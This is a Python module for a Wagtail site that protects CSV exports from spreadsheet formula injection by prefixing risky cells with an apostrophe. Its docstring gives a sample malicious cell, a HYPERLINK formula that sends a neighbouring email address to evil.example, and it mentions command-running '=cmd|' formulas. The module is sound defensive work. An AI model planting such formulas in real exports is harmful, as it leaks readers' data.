"""Spreadsheet exports that cannot run what a reader or editor typed.

A CSV cell beginning `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking) is read as a formula when the file is opened: a comment
body of `=HYPERLINK("https://evil.example/?"&A2, "Open")` becomes a live link that sends the
neighbouring cell (a reader's email) away, and older spreadsheets run `=cmd|...` outright.
Spreadsheet software treats a leading apostrophe as "this is text" and hides it, so every such
cell gets one. Numbers and dates are written as they are (a negative score stays a number).

xlsx needs none of this: Wagtail's export already stores a formula-looking string as text.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """The text as a spreadsheet shows it, never as a formula it would run."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SpreadsheetSafeExportMixin(SpreadsheetExportMixin):
    """For a Wagtail index view with `list_export`: its CSV text cells made safe. Put it before
    the view class (`class MyIndexView(SpreadsheetSafeExportMixin, IndexView)`)."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV and isinstance(value, str):
            return spreadsheet_safe(value)
        return value
